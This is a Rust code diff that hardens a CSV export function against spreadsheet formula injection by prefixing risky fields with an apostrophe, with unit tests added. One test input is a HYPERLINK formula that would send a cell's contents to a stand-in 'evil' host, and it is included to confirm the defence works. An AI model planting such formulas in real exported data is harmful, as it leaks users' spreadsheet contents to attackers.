@@ -74,9 +74,18 @@ pub fn render(header: &[&str], rows: &[Vec<String>], max_widths: &[usize]) -> St
     out
 }
 
-/// One CSV field (RFC 4180 quoting), control characters escaped.
+/// One CSV field (RFC 4180 quoting), control characters escaped. A field that a
+/// spreadsheet would run as a formula — starting with `=`, `+`, `-`, `@`, TAB or
+/// CR — is prefixed with `'` (OWASP's advice against CSV injection); a lone `-`
+/// (trailscope's "no value") is left as it is.
 pub fn csv_field(text: &str) -> String {
-    let safe = escape(text);
+    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text != "-";
+    let escaped = escape(text);
+    let safe = if formula {
+        std::borrow::Cow::Owned(format!("'{escaped}"))
+    } else {
+        escaped
+    };
     if safe.contains([',', '"', '\n']) || safe.starts_with(' ') || safe.ends_with(' ') {
         format!("\"{}\"", safe.replace('"', "\"\""))
     } else {
@@ -117,5 +126,21 @@ mod tests {
         assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
         assert_eq!(csv_field("line\nbreak"), "line\\u{a}break");
         assert_eq!(csv_field("plain"), "plain");
+    }
+
+    #[test]
+    fn csv_formulas_are_neutralised() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""
+        );
+        assert_eq!(csv_field("=1+1"), "'=1+1");
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("\tx"), "'\\u{9}x");
+        assert_eq!(csv_field("\rx"), "'\\u{d}x");
+        assert_eq!(csv_field("-"), "-");
+        assert_eq!(csv_field("Admin/=1+1"), "Admin/=1+1");
     }
 }
